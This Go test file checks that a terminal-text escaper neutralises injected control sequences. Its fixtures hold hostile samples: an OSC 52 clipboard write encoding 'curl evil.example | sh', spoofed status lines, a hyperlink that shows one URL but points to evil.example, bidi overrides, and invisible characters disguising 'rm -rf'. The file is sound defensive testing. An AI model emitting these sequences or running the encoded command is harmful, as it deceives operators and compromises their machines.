package termtext_test

import (
	"encoding/json"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/countersign/countersign/internal/termtext"
)

// What a fetched page plants for an operator's terminal.
const (
	clipboard   = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07" // OSC 52: write the clipboard
	clearScreen = "\x1b[2J\x1b[H"
	fakeLine    = "call 0.0 failed\rAll calls verified      "
	link        = "\x1b]8;;https://evil.example\x1b\\https://good.example\x1b]8;;\x1b\\"
	c1CSI       = "\u009b31mred\u009d0;title\u009c"
	rawC1       = "\x9b2J"
	bidi        = "approve \u202eexe.tpircs\u202c \u2066x\u2069"
)

func TestText(t *testing.T) {
	t.Parallel()
	tests := []struct {
		in, text, line string
	}{
		{"plain text, with ünïcode and emoji 🎉", "plain text, with ünïcode and emoji 🎉", "plain text, with ünïcode and emoji 🎉"},
		{"two\nlines\tand a tab", "two\nlines\tand a tab", `two\nlines\tand a tab`},
		{"windows\r\nlines\r\n", "windows\nlines\n", `windows\r\nlines\r\n`},
		{clipboard, `\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007`, `\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007`},
		{clearScreen, `\u001b[2J\u001b[H`, `\u001b[2J\u001b[H`},
		{fakeLine, `call 0.0 failed\rAll calls verified      `, `call 0.0 failed\rAll calls verified      `},
		{"x\b\b\bok\x7f\x00\f", `x\b\b\bok\u007f\u0000\f`, `x\b\b\bok\u007f\u0000\f`},
		{c1CSI, `\u009b31mred\u009d0;title\u009c`, `\u009b31mred\u009d0;title\u009c`},
		{rawC1, "\uFFFD2J", "\uFFFD2J"},
		{bidi, `approve \u202eexe.tpircs\u202c \u2066x\u2069`, `approve \u202eexe.tpircs\u202c \u2066x\u2069`},
		{"a\u2028b\u200fc\u061c", `a\u2028b\u200fc\u061c`, `a\u2028b\u200fc\u061c`},
		{"end\r", `end\r`, `end\r`},
		// Characters that show as nothing, and disguise a URL or a command.
		{"https://good.example\u200b.evil.example/ rm\u00ad -rf\u2060 \ufeff",
			`https://good.example\u200b.evil.example/ rm\u00ad -rf\u2060 \ufeff`, `https://good.example\u200b.evil.example/ rm\u00ad -rf\u2060 \ufeff`},
		{"ok\U000E0069\U000E0067\u3164\ufe00", `ok\udb40\udc69\udb40\udc67\u3164\ufe00`, `ok\udb40\udc69\udb40\udc67\u3164\ufe00`},
		{"emoji stay: ⚠️ ✅", "emoji stay: ⚠️ ✅", "emoji stay: ⚠️ ✅"},
	}
	for _, tt := range tests {
		if got := termtext.Text(tt.in); got != tt.text {
			t.Errorf("Text(%q) = %q, want %q", tt.in, got, tt.text)
		}
		if got := termtext.Line(tt.in); got != tt.line {
			t.Errorf("Line(%q) = %q, want %q", tt.in, got, tt.line)
		}
	}
}

// JSON passed through the escaper is still JSON, with the same values:
// operator commands print their --json output through it.
func TestTextKeepsJSON(t *testing.T) {
	t.Parallel()
	in := map[string]string{"result": clipboard + clearScreen + fakeLine + link + c1CSI + rawC1 + bidi + "\r\n"}
	b, err := json.MarshalIndent(in, "", "\t")
	if err != nil {
		t.Fatal(err)
	}
	out := termtext.Text(string(b))
	var got, want map[string]string
	if err := json.Unmarshal([]byte(out), &got); err != nil {
		t.Fatalf("Text of JSON is not JSON: %v\n%s", err, out)
	}
	_ = json.Unmarshal(b, &want)
	if got["result"] != want["result"] {
		t.Errorf("Text of JSON decodes to %q, want %q", got["result"], want["result"])
	}
	if !strings.Contains(out, "\n\t\"result\"") {
		t.Errorf("Text of indented JSON = %s; want its layout kept", out)
	}
}

// unsafe lists what a terminal would act on in s, beyond newline and tab
// where multiline.
func unsafe(s string, multiline bool) []rune {
	var found []rune
	for i, r := range s {
		switch {
		case r == utf8.RuneError && !strings.HasPrefix(s[i:], "\uFFFD"):
			found = append(found, r) // not UTF-8
		case (r == '\n' || r == '\t') && multiline:
		case r < 0x20, r >= 0x7f && r <= 0x9f, unicode.Is(unicode.Bidi_Control, r), r == '\u2028', r == '\u2029':
			found = append(found, r)
		case r != '\ufe0f' && unicode.In(r, unicode.Cf, unicode.Other_Default_Ignorable_Code_Point, unicode.Variation_Selector):
			found = append(found, r) // shows as nothing
		}
	}
	return found
}

// Whatever the text, the escaped text holds no control character but
// newline and tab (none at all on one line), no bidirectional control,
// and only UTF-8; a Writer writes the same, however the text is split
// into writes; and text that needs nothing is left as it is.
func FuzzText(f *testing.F) {
	for _, s := range []string{clipboard, clearScreen, fakeLine, link, c1CSI, rawC1, bidi, "a\r\nb\r", "é\xe2\x82", "plain\ntext\t",
		"rm\u200b -rf \U000E0041\ufe0f", "\xf3\xa0\x81"} {
		f.Add(s, uint8(3))
	}
	f.Fuzz(func(t *testing.T, s string, split uint8) {
		text, line := termtext.Text(s), termtext.Line(s)
		if u := unsafe(text, true); u != nil {
			t.Fatalf("Text(%q) = %q holds %q", s, text, u)
		}
		if u := unsafe(line, false); u != nil {
			t.Fatalf("Line(%q) = %q holds %q", s, line, u)
		}
		if unsafe(s, false) == nil && line != s {
			t.Fatalf("Line(%q) = %q; want it unchanged", s, line)
		}
		if unsafe(s, true) == nil && !strings.Contains(s, "\r") && text != s {
			t.Fatalf("Text(%q) = %q; want it unchanged", s, text)
		}
		var b strings.Builder
		w := termtext.NewWriter(&b)
		cut := int(split) % (len(s) + 1)
		for _, part := range []string{s[:cut], s[cut:]} {
			if n, err := w.Write([]byte(part)); n != len(part) || err != nil {
				t.Fatalf("Write(%q) = %d, %v", part, n, err)
			}
		}
		if err := w.Flush(); err != nil || b.String() != text {
			t.Fatalf("Writer of %q in writes %q, %q = %q, %v; want %q", s, s[:cut], s[cut:], b.String(), err, text)
		}
		j, _ := json.Marshal(s)
		var back, want string
		if err := json.Unmarshal([]byte(termtext.Text(string(j))), &back); err != nil || json.Unmarshal(j, &want) != nil || back != want {
			t.Fatalf("Text(%s) decodes to %q, %v; want %q", j, back, err, want)
		}
	})
}
